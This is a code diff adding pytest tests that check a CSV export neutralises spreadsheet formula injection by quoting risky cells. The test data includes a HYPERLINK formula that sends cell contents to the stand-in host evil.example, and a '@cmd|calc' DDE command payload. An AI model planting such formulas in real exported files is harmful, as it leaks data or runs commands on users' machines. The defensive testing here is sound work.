@@ -9,7 +9,7 @@ import json
 import pytest
 
 from store.db import Store
-from store.export import CSV_COLUMNS, EVENT_COLUMNS, export_events
+from store.export import CSV_COLUMNS, EVENT_COLUMNS, export_events, neutralise
 from store.extract.rules import MIN_CONFIDENCE
 
 KHARKIV_SHELLING_SOURCES = {"002_84f9446eafe82698", "003_17c81901f7fafa9d"}
@@ -156,3 +156,35 @@ def test_an_empty_store_exports_no_events_and_a_csv_header(store: Store):
     count, reader, rows = export_csv(store)
     assert (count, rows) == (0, [])
     assert tuple(reader.fieldnames) == CSV_COLUMNS
+
+
+@pytest.mark.parametrize(
+    "value, cell",
+    [
+        (
+            '=HYPERLINK("http://evil.example/?"&A1,"x")',
+            '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
+        ),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("Kharkiv = 2", "Kharkiv = 2"),
+        ("", ""),
+    ],
+)
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(value, cell):
+    assert cell == neutralise(value)
+
+
+def test_a_formula_title_and_summary_reach_the_csv_neutralised(seeded_store: Store):
+    seeded_store.db.execute('update articles set title = \'=HYPERLINK("http://x","y")\'')
+    seeded_store.db.execute("update events set summary = '@cmd|calc'")
+    out = io.StringIO()
+    export_events(seeded_store, out, "csv")
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert {'\'=HYPERLINK("http://x","y")'} == {r["source_title"] for r in rows}
+    assert {"'@cmd|calc"} == {r["summary"] for r in rows}
+    jsonl = io.StringIO()
+    export_events(seeded_store, jsonl, "jsonl")
+    assert "@cmd|calc" == json.loads(jsonl.getvalue().splitlines()[0])["summary"]
